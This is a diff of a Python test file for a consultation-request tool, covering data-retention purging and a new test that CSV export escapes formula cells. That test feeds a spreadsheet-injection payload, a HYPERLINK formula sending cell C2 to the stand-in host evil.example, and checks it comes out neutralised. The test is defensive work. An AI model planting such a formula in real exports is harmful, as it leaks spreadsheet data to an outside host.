@@ -151,10 +151,13 @@ def make_tracker_store(url, conversations):
     now = time.time()
     with engine.begin() as connection:
         for sender, (form_ran, age) in conversations.items():
-            rows = [("user", None, '{"text": "typed details"}')] + ([("action", "consultation_form", "{}")] if form_ran else [])
-            for kind, action, data in rows:
+            # form_ran "inform": no form, but a message understood as details (an email...).
+            intent = "inform" if form_ran == "inform" else "ask_cost"
+            rows = [("user", intent, None, '{"text": "typed details"}')]
+            rows += [("action", None, "consultation_form", "{}")] if form_ran is True else []
+            for kind, intent_name, action, data in rows:
                 connection.execute(events.insert().values(sender_id=sender, type_name=kind, timestamp=now - age,
-                                                          action_name=action, data=data))
+                                                          intent_name=intent_name, action_name=action, data=data))
     return engine
 
 
@@ -167,18 +170,19 @@ def test_retention_deletes_old_requests_their_conversations_and_abandoned_forms(
     tracker_url = db_url  # one database holding both tables is fine too
     store = RequestStore(db_url)
     engine = make_tracker_store(tracker_url, {
-        "with-request": (True, 60), "cancelled-form": (True, 60), "questions-only": (False, 60)})
+        "with-request": (True, 60), "cancelled-form": (True, 60), "questions-only": (False, 60),
+        "details-without-form": ("inform", 60)})
     saved = store.add(request_from(SAMPLES["requests"][0], "with-request"))
     conversations = ConversationStore(tracker_url)
 
     nothing = retention.purge_expired(store, conversations, retention_days=30)
     assert (nothing.request_ids, nothing.conversations) == ([], 0)
-    assert senders(engine) == ["cancelled-form", "questions-only", "with-request"]
+    assert senders(engine) == ["cancelled-form", "details-without-form", "questions-only", "with-request"]
 
-    # 31 days on, the request goes with its conversation, and so does the conversation in
-    # which details were typed but never sent. Conversations without the form stay.
+    # 31 days on, the request goes with its conversation, and so do the conversations in
+    # which details were typed but never sent. Conversations without details stay.
     purged = retention.purge_expired(store, conversations, retention_days=30, now=utc_now() + timedelta(days=31))
-    assert (purged.request_ids, purged.conversations, purged.events) == ([saved.id], 2, 4)
+    assert (purged.request_ids, purged.conversations, purged.events) == ([saved.id], 3, 5)
     assert senders(engine) == ["questions-only"]
     assert store.newest_first() == []
 
@@ -385,3 +389,15 @@ def test_cli_errors_are_clear(tmp_path, cli_env):
     assert broken.returncode == 2 and "retention_days must be a whole number" in broken.stderr
     empty = run_cli(env=cli_env)
     assert empty.returncode == 0 and "No consultation requests (kept for 30 days)." in empty.stdout
+
+
+def test_the_csv_export_never_holds_a_formula(tmp_path):
+    from leads import cli
+
+    request = details.new_request("Ann Lee", "ann@example.com", '=HYPERLINK("http://evil.example/?x="&C2,"Open")',
+                                  "-1+1", conversation_id="@conv")
+    saved = RequestStore(f"sqlite:///{tmp_path / 'leads.db'}").add(request)
+    cli.write_csv([saved], tmp_path / "out.csv")
+    rows = list(csv.reader((tmp_path / "out.csv").open(encoding="utf-8")))
+    assert rows[1][5:] == ['\'=HYPERLINK("http://evil.example/?x="&C2,"Open")', "'-1+1", "'@conv"]
+    assert rows[1][2] == "Ann Lee"
